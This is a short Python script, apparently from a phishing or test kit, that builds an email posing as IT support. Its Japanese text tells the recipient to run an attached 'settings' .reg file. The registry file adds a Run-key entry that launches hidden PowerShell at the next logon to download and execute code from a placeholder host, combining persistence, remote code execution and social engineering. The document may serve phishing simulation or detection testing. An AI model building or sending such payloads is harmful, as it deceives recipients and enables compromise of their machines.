"""A .reg that fetches at the next start."""
from kit import *


def make():
    reg = "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"u\"=\"powershell -w hidden -c iex((new-object net.webclient).downloadstring('http://x.example.invalid/'))\"\r\n"
    return (Mail("設定", "it@it-help.example.com")
            .text("添付を実行してください\n")
            .attach("設定.reg", reg.encode("utf-16")).bytes())
